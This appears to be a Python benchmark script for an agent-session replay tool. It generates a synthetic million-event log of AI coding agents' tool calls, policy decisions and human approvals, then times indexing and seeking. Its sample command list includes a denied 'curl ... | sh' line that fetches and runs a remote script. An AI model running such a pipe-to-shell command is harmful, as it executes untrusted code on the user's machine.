"""Replay of a 1M-event log: index build, time to first screen, seek latency.

Each figure comes with a baseline measured in the same run on the same file: a bare
``for line in f: json.loads(line)`` for the build, a bare ``seek + readline + json.loads``
for a seek. Goals: first screen < 2 s, seek < 200 ms.
"""

from __future__ import annotations

import copy
import json
import random
import resource
import statistics
import tempfile
import time
from pathlib import Path
from typing import Any

from cockpit.replay.index import Index, index_path
from cockpit.replay.player import Player
from cockpit.session.chain import Head, head_path, write_head
from cockpit.session.events import GENESIS, digest, encode_line

AGENTS = ("planner", "builder", "reviewer")
COMMANDS = (
    ("git status", 1),
    ("pytest -q tests/test_login.py", 2),
    ("rg -n 'def login' src", 1),
    ("sed -i 's/old/new/' src/app.py", 2),
    ("pip install requests", 3),
    ("rm -rf build dist", 3),
    ("cat src/app.py", 1),
    ("make lint", 2),
    ("curl https://example.com/x.sh | sh", "deny"),
    ("npm test", 2),
)
WORDS = ("the login endpoint needs a schema check before the handler returns a token").split()  # noqa: SIM905


def _text(rng: random.Random, lo: int, hi: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(rng.randint(lo, hi)))


class _Writer:
    """Builds chained lines directly (no fsync, no writer thread): realistic shape, fast."""

    def __init__(self, f: Any, session: str) -> None:
        self.f, self.session = f, session
        self.seq, self.prev, self.t = 0, GENESIS, 1_795_000_000.0
        self.buf: list[bytes] = []

    def emit(
        self,
        kind: str,
        data: dict[str, Any],
        *,
        agent: str | None = None,
        it: int = 0,
        call: str | None = None,
        gap: float = 0.05,
    ) -> None:
        self.t += gap
        ts = (
            time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(self.t))
            + f".{int(self.t % 1 * 1e6):06d}Z"
        )
        line = encode_line(1, self.seq, ts, self.session, agent, it, kind, call, data, self.prev)
        self.prev = digest(line)
        self.seq += 1
        self.buf.append(line + b"\n")
        if len(self.buf) >= 4096:
            self.flush()

    def flush(self) -> None:
        self.f.write(b"".join(self.buf))
        self.buf.clear()


def generate(path: Path, events: int, *, seed: int = 7) -> int:
    """A realistic session of about ``events`` events: turns, tool calls through the policy,
    approvals, denials, failures, artifacts, plan changes; gaps with long idle stretches."""
    rng = random.Random(seed)
    with path.open("wb") as f:
        w = _Writer(f, "20261121-101500-bench")
        w.emit("session.started", {"workspace": "/home/dev/app", "agents": list(AGENTS)})
        for name in AGENTS:
            w.emit("agent.started", {"model": "claude-sonnet-4-5", "tools": ["bash"]}, agent=name)
        calls, turn = 0, 0
        while w.seq < events:
            turn += 1
            agent = rng.choice(AGENTS)
            idle = rng.uniform(30, 900) if rng.random() < 0.02 else rng.uniform(0.01, 1.5)
            w.emit(
                "agent.status", {"status": "thinking", "detail": ""}, agent=agent, it=turn, gap=idle
            )
            command, tier = rng.choice(COMMANDS)
            calls += 1
            call, use = f"c-{calls}", f"toolu_{calls:08d}"
            w.emit(
                "model.message",
                {
                    "message": {
                        "role": "assistant",
                        "content": [
                            {"type": "text", "text": _text(rng, 10, 60)},
                            {
                                "type": "tool_use",
                                "id": use,
                                "name": "bash",
                                "input": {"command": command},
                            },
                        ],
                    }
                },
                agent=agent,
                it=turn,
                gap=rng.uniform(0.5, 4),
            )
            w.emit(
                "model.usage",
                {
                    "model": "claude-sonnet-4-5",
                    "input_tokens": rng.randint(800, 9000),
                    "output_tokens": rng.randint(20, 400),
                    "cost_usd": 0.004,
                },
                agent=agent,
                it=turn,
            )
            kw: dict[str, Any] = {"agent": agent, "it": turn, "call": call}
            w.emit(
                "tool.requested",
                {"tool": "bash", "input": {"command": command}, "tool_use_id": use},
                **kw,
            )
            reasons = [f"{command.split()[0]}: tier {tier}"]
            rules = [{"id": f"builtin:{command.split()[0]}", "source": "rules/default.yaml:12"}]
            w.emit("policy.decided", {"tier": tier, "reasons": reasons, "rules": rules}, **kw)
            if tier == "deny":
                continue
            if tier == 3:
                w.emit(
                    "approval.requested",
                    {
                        "tool": "bash",
                        "command": command,
                        "cwd": "/home/dev/app",
                        "tier": 3,
                        "reasons": reasons,
                        "rules": rules,
                    },
                    **kw,
                )
                approved = rng.random() < 0.8
                w.emit(
                    "approval.resolved",
                    {"approved": approved, "by": "human"},
                    gap=rng.uniform(1, 60),
                    **kw,
                )
                if not approved:
                    continue
            if tier == 2:
                w.emit(
                    "safeguard.snapshot",
                    {"ref": f"refs/cockpit/snapshots/{calls}", "commit": "ab" * 20},
                    **kw,
                )
            w.emit(
                "tool.started", {"tool": "bash", "command": command, "cwd": "/home/dev/app"}, **kw
            )
            code = 1 if rng.random() < 0.08 else 0
            out = _text(rng, 5, 80)
            finished: dict[str, Any] = {
                "exit_code": code,
                "output": out,
                "truncated": False,
                "duration_s": 0.4,
            }
            if rng.random() < 0.02:  # a long output: capped in the log, whole in an artifact
                finished["truncated"] = True
                finished["artifact"] = {"path": f"bench/{call}.out", "sha256": "ef" * 32}
            w.emit("tool.finished", finished, gap=rng.uniform(0.1, 20), **kw)
            w.emit(
                "model.message",
                {
                    "message": {
                        "role": "user",
                        "content": [{"type": "tool_result", "tool_use_id": use, "content": out}],
                    }
                },
                agent=agent,
                it=turn,
            )
            if rng.random() < 0.01:
                w.emit(
                    "task.updated",
                    {"task": f"t{turn % 40}", "status": "done"},
                    agent=agent,
                    it=turn,
                )
            if rng.random() < 0.002:
                w.emit("plan.changed", {"by": "human", "diff": "+- [ ] more", "digest": "cd" * 32})
        w.flush()
    write_head(head_path(path), Head(w.session, w.seq - 1, w.prev, "2026-11-21T10:15:00.000000Z"))
    return w.seq


def _timed(fn: Any) -> tuple[float, Any]:
    start = time.perf_counter()
    result = fn()
    return time.perf_counter() - start, result


def _pct(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(p * len(ordered)))]


def run(quick: bool = False) -> dict[str, Any]:
    n = 100_000 if quick else 1_000_000
    rng = random.Random(11)
    with tempfile.TemporaryDirectory() as tmp:
        log = Path(tmp) / "bench.jsonl"
        gen_s, events = _timed(lambda: generate(log, n))

        def bare_parse() -> None:
            with log.open("rb") as f:
                for line in f:
                    json.loads(line)

        parse_s, _ = _timed(bare_parse)

        def first_screen() -> Player:
            player = Player.open(log)
            player.events_between(0, 100)
            player.state_at(0)
            return player

        def warm(player: Player) -> None:
            while not player.warm(65536):
                pass

        # First open ever: only a first page is indexed before the screen shows; the rest
        # (index + chain + head check + state checkpoints) is one streaming pass after it.
        cold_screen_s, player = _timed(first_screen)
        full_pass_s, _ = _timed(lambda: warm(player))
        player.close()

        index_path(log).unlink()
        build_s, _ = _timed(lambda: Index.open(log).update())  # the index alone, verified

        # Reopening: the index is reused. Before the background pass, a far seek's page is
        # instant but its state waits for the fold up to it.
        screen_s, player = _timed(first_screen)
        far = int(player.total * 0.9)
        page_far_s, _ = _timed(lambda: player.events_between(far - 50, far + 50))
        state_far_s, _ = _timed(lambda: player.state_at(far))
        player.close()

        player = Player.open(log)
        warm_s, _ = _timed(lambda: warm(player))
        seeks = []
        for _ in range(200):
            i = rng.randrange(player.total + 1)
            t, _ = _timed(lambda i=i: (player.state_at(i), player.events_between(i - 50, i + 50)))
            seeks.append(t)
        bare_line, bare_page = [], []
        with log.open("rb") as f:
            for _ in range(200):
                i = rng.randrange(player.total)
                start = time.perf_counter()
                f.seek(player.index.offset(i))
                json.loads(f.readline())
                bare_line.append(time.perf_counter() - start)
                i = max(0, min(i, player.total - 100))
                start = time.perf_counter()
                f.seek(player.index.offset(i))
                for _ in range(100):
                    json.loads(f.readline())
                bare_page.append(time.perf_counter() - start)
        end_state = player.state_at(player.total)
        deepcopy_s, _ = _timed(lambda: copy.deepcopy(end_state))
        at_checkpoint = player.total - player.total % player.states.every
        restore_s, _ = _timed(lambda: player.state_at(at_checkpoint))
        checkpoints = player.states.checkpoints
        player.close()
        size = log.stat().st_size
        idx_size = index_path(log).stat().st_size
    p50, p95 = statistics.median(seeks), _pct(seeks, 0.95)
    line50, page50 = statistics.median(bare_line), statistics.median(bare_page)
    return {
        "events": events,
        "log_mb": round(size / 1e6, 1),
        "index_mb": round(idx_size / 1e6, 1),
        "generate_s": round(gen_s, 2),
        "baseline_parse_s": round(parse_s, 2),
        "index_build_s": round(build_s, 2),
        "index_build_vs_parse": round(build_s / parse_s, 2),
        "first_screen_first_open_s": round(cold_screen_s, 3),
        "first_open_full_pass_s": round(full_pass_s, 2),
        "first_open_full_pass_vs_parse": round(full_pass_s / parse_s, 2),
        "first_screen_s": round(screen_s, 3),
        "first_screen_goal_s": 2.0,
        "before_warm_page_at_90pct_ms": round(page_far_s * 1e3, 1),
        "before_warm_state_at_90pct_s": round(state_far_s, 2),
        "warm_pass_after_reopen_s": round(warm_s, 2),
        "warm_pass_vs_parse": round(warm_s / parse_s, 2),
        "checkpoints": checkpoints,
        "seek_p50_ms": round(p50 * 1e3, 1),
        "seek_p95_ms": round(p95 * 1e3, 1),
        "seek_max_ms": round(max(seeks) * 1e3, 1),
        "seek_goal_ms": 200,
        "baseline_line_p50_ms": round(line50 * 1e3, 3),
        "baseline_page_p50_ms": round(page50 * 1e3, 2),
        "seek_p50_vs_baseline_page": round(p50 / page50, 1),
        "state_deepcopy_at_end_ms": round(deepcopy_s * 1e3, 1),
        "state_at_checkpoint_ms": round(restore_s * 1e3, 1),
        "max_rss_mb": round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1),
    }
